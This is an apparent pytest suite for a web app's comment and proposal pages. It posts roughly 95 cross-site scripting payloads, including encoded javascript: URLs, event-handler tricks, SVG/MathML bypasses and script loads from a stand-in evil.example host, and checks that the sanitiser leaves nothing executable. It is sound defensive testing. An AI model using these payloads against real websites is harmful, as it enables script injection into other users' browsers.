"""Known XSS attacks through every way user text reaches a page: comments
(Markdown rendered and sanitised once, when written), the names of their
authors, report and moderation reasons, the forms that give text back, and
the proposal's own text (shown as escaped text). Each page is parsed and
checked for anything able to run script."""
from __future__ import annotations

import io
import re
from html.parser import HTMLParser

import pytest
from sqlalchemy import select, update

from tests.builders import make_body, make_call, make_group, pdf_bytes
from tests.conftest import make_user
from tests.web.test_comments import (
    EN,
    client_for,
    ensure_showcase_page,
    page,
    post,
    posted_id,
    public_proposal,
    thread_html,
)
from venture.calls.models import Call, Phase
from venture.comments.models import Comment
from venture.core.sanitize import render_markdown
from venture.extensions import db

PAYLOADS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script>alert(String.fromCharCode(88,83,83))</script>',
    '<<script>alert(1);//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src=`javascript:alert(1)`>',
    '<img """><script>alert(1)</script>">',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)">hover</div>',
    '<p onclick=alert(1)>click</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://example.org" onclick="alert(1)">ok</a>',
    '<a href="https://example.org" style="position:fixed;top:0">ok</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x]( javascript:alert(1) )',
    '[x](<javascript:alert(1)>)',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:msgbox(1))',
    '[x](https://example.org "title" onclick=alert(1))',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '![x](javascript:alert(1))',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '![x](https://example.org/a.png"onerror="alert(1))',
    '<javascript:alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="background-image:url(\'javascript:alert(1)\')">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img src=x onerror=alert(1)',
    '<a href="javascript:alert(1)"',
    '<scr\x00ipt>alert(1)</scr\x00ipt>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '<a href="https://example.org" onmouseover=alert(1)>https://example.org</a>',
    'javascript:alert(1)',
    'www.example.org/?q="><script>alert(1)</script>',
    '```\n<script>alert(1)</script>\n```',
    '`<img src=x onerror=alert(1)>`',
    '> <script>alert(1)</script>',
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |',
    '<h1 onclick=alert(1)>title</h1>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="%6Aavascript:alert(1)">x</a>',
    '<a href="java%0ascript:alert(1)">x</a>',
    '<x onclick=alert(1)>x</x>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
]
SCRIPT_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
                            "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "usemap", "ping", "srcset",
                            "manifest", "icon", "archive"})
# Elements able to run script or load active content: never inside user content.
ACTIVE = frozenset({"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
                    "link", "meta", "base", "img", "video", "audio", "source", "template", "portal"})
# The sanitiser's own output has no form controls either (the thread's own forms are ours).
NEVER_FROM_THE_SANITISER = ACTIVE | {"form", "input", "button", "textarea", "select", "option", "details", "x"}
# Browsers ignore white space and control characters inside a URL's scheme.
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def dangerous_url(value: str) -> bool:
    """``value`` as the parser gives it, its character references decoded
    once (as a browser does)."""
    return _INVISIBLE.sub("", value).lower().startswith(SCRIPT_SCHEMES)


class Inspector(HTMLParser):
    """Collects everything in a piece of HTML that could run script."""

    def __init__(self, forbidden: frozenset[str], own_scripts: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.forbidden = forbidden
        self.own_scripts = own_scripts
        self.problems: list[str] = []
        self.scripts: list[dict[str, str | None]] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts.append(dict(attrs))
        if tag == "a":
            self.links.append(dict(attrs))
        if tag in self.forbidden and not (tag == "script" and self.own_scripts and ours(dict(attrs))):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            elif name in ("style", "srcdoc"):
                self.problems.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and value and dangerous_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def ours(script: dict[str, str | None]) -> bool:
    """A script of the site's own: a file from /static/ (the CSP's 'self'),
    or inline with the request's nonce."""
    src = script.get("src")
    return src.startswith("/static/") if src is not None else bool(script.get("nonce"))


def inspect(html: str, forbidden: frozenset[str] = frozenset(), own_scripts: bool = False) -> Inspector:
    inspector = Inspector(forbidden, own_scripts)
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_inert(fragment: str, forbidden: frozenset[str] = ACTIVE, own_scripts: bool = False) -> None:
    """No script-capable element, attribute or URL in user content."""
    found = inspect(fragment, forbidden, own_scripts)
    assert found.problems == [], found.problems
    # Whatever a parser makes of it: any "<" of user text is escaped, so a raw
    # tag name after "<" can only be real markup.
    names = forbidden - {"script"} if own_scripts else forbidden
    raw = re.findall(r"<\s*/?\s*(" + "|".join(sorted(names)) + r")\b", fragment, re.IGNORECASE)
    assert raw == [], raw


def assert_page_safe(html: str) -> None:
    """The whole page: no event handler, inline style or script URL anywhere,
    and only our own scripts (files from /static/, or inline with the request's nonce)."""
    found = inspect(html)
    assert found.problems == [], found.problems
    assert all(ours(script) for script in found.scripts), found.scripts
    assert_inert(main_of(html), own_scripts=True)


def main_of(html: str) -> str:
    return html[html.index("<main"):html.index("</main>")]


# The sanitiser, payload by payload ----------------------------------------------------------------------

def test_there_are_enough_attacks():
    assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"payload{n:02d}" for n in range(len(PAYLOADS))])
def test_the_sanitiser_leaves_nothing_that_runs(payload):
    rendered = render_markdown(payload)
    assert_inert(rendered, NEVER_FROM_THE_SANITISER)
    for link in inspect(rendered).links:
        assert link.get("rel") == "nofollow ugc noopener", link


def test_the_checker_itself_catches_attacks():
    for bad in ('<a href="java&#x09;script:alert(1)">x</a>', '<a href=" JAVASCRIPT:x">x</a>',
                '<a href="&#x64;ata:text/html,x">x</a>', "<p onclick=x>x</p>", '<p style="x">x</p>',
                "<svg></svg>", "<iframe></iframe>", '<a href="vbscript:x">x</a>'):
        with pytest.raises(AssertionError):
            assert_inert(bad)
    assert_inert('<p>&lt;script&gt;alert(1)&lt;/script&gt; <a href="https://example.org">ok</a></p>')


# Comments, their authors and the moderators' pages ---------------------------------------------------------

@pytest.fixture
def app_config():
    return {"COMMENT_LIMIT_PER_USER": 10_000, "COMMENT_LIMIT_NEW_ACCOUNT": 10_000, "COMMENT_LIMIT_PER_ADDRESS": 10_000}


@pytest.fixture
def world(app):
    ensure_showcase_page(app)
    make_user(app, "owner@example.org", name="<script>alert('owner')</script>")
    make_user(app, "resident@example.org", name="<img src=x onerror=alert(1)>")
    make_user(app, "neighbour@example.org", name="\"><svg onload=alert(1)>")
    make_user(app, "organizer@example.org")
    body = make_body(app, "organizer@example.org")
    call = make_call(app, body, Phase.OPEN)
    group = make_group(app, "owner@example.org")
    return {"body": body, "call": call, "group": group, "proposal": public_proposal(app, call, group)}


def test_attacks_through_comments_do_not_run(app, world):
    resident = client_for(app, "resident@example.org")
    neighbour = client_for(app, "neighbour@example.org")
    owner = client_for(app, "owner@example.org")
    organizer = client_for(app, "organizer@example.org")
    proposal = world["proposal"]
    # Numbered: two payloads differ only by control characters the cleaning drops,
    # and the same text twice in one place is refused as a repeat.
    ids = [posted_id(post(resident, proposal, f"{payload}\n\n{n}")) for n, payload in enumerate(PAYLOADS)]
    for payload in PAYLOADS[:10]:
        posted_id(post(neighbour, proposal, payload, parent=ids[0]))
    posted_id(post(owner, proposal, PAYLOADS[1]))
    # Reasons are user text too.
    neighbour.submit(f"/comments/{ids[2]}/report", {"reason": PAYLOADS[5]})
    organizer.submit(f"/comments/{ids[3]}/hide", {"reason": PAYLOADS[13]})
    queue_url = f"/bodies/{world['body']}/moderation"
    organizer.submit(f"{queue_url}/words", {"word": "<b onclick=alert(1)>"})
    # Held comments show on the moderators' queue.
    with app.app_context():
        db.session.execute(update(Call).where(Call.id == world["call"]).values(comment_moderation="pre"))
        db.session.commit()
    for payload in PAYLOADS[40:50]:
        posted_id(post(neighbour, proposal, payload))

    with app.app_context():
        stored = db.session.scalars(select(Comment.body_html)).all()
    for body_html in stored:
        assert_inert(body_html, NEVER_FROM_THE_SANITISER)

    for viewer in (client_for(app), resident, neighbour, owner, organizer):
        html = page(viewer, proposal)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in thread_html(html), "the attack is shown as text"
        assert_inert(thread_html(html))
        assert_page_safe(html)
    queue = organizer.get(queue_url, headers=EN)
    assert queue.status_code == 200
    assert_page_safe(queue.get_data(as_text=True))

    # Forms that give the text back: editing, a refused comment, a refused reason.
    for comment_id in ids:
        response = resident.get(f"/comments/{comment_id}/edit", headers=EN)
        if response.status_code == 200:
            assert_page_safe(response.get_data(as_text=True))
    refused = post(resident, proposal, PAYLOADS[76] + "x" * 5000)
    assert refused.status_code == 422
    assert_page_safe(refused.get_data(as_text=True))
    too_long = organizer.submit(f"/comments/{ids[4]}/hide", {"reason": PAYLOADS[0] + "x" * 500}, headers=EN)
    assert too_long.status_code == 422
    assert_page_safe(too_long.get_data(as_text=True))


# The proposal's own text ---------------------------------------------------------------------------------------

def test_attacks_through_proposal_text_do_not_run(app):
    ensure_showcase_page(app)
    make_user(app, "owner@example.org")
    make_user(app, "organizer@example.org")
    body = make_body(app, "organizer@example.org")
    call = make_call(app, body, Phase.OPEN)
    group = make_group(app, "owner@example.org")
    owner = client_for(app, "owner@example.org")
    proposal_id = int(owner.submit(f"/calls/{call}/apply", {"group": group}).location.split("/")[2])
    editor = owner.get(f"/proposals/{proposal_id}/edit").get_data(as_text=True)
    lock = re.search(r'name="lock_version" type="hidden" value="(\d+)"', editor).group(1)
    everything = "\n".join(PAYLOADS)
    saved = owner.submit(f"/proposals/{proposal_id}/edit", {
        "lock_version": lock, "title": " ".join(PAYLOADS[:3])[:200], "summary": " ".join(PAYLOADS)[:1000],
        "district": "天河区", "theme": "长者关爱", "beneficiaries": "3",
        "section_problem": everything, "section_activities": everything, "section_beneficiaries": everything,
        "budget-0-item": PAYLOADS[5], "budget-0-unit_cost": "3000", "budget-0-quantity": "1",
        "file_a1": (io.BytesIO(pdf_bytes()), "<svg onload=alert(1)>.pdf")}, content_type="multipart/form-data")
    assert saved.status_code == 302, saved.get_data(as_text=True)[:2000]
    submitted = owner.submit(f"/proposals/{proposal_id}/submit", {"confirm_warnings": "y"})
    assert submitted.status_code == 302, submitted.get_data(as_text=True)[:2000]

    for viewer in (owner, client_for(app, "organizer@example.org")):
        version = viewer.get(f"/proposals/{proposal_id}/versions/1", headers=EN)
        assert version.status_code == 200
        html = version.get_data(as_text=True)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, "the text is shown, escaped"
        assert_page_safe(html)
    public = client_for(app).get(f"/proposals/{proposal_id}", headers=EN)
    assert public.status_code == 200
    assert_page_safe(public.get_data(as_text=True))
    editor = owner.get(f"/proposals/{proposal_id}/edit", headers=EN).get_data(as_text=True)
    assert_page_safe(editor)
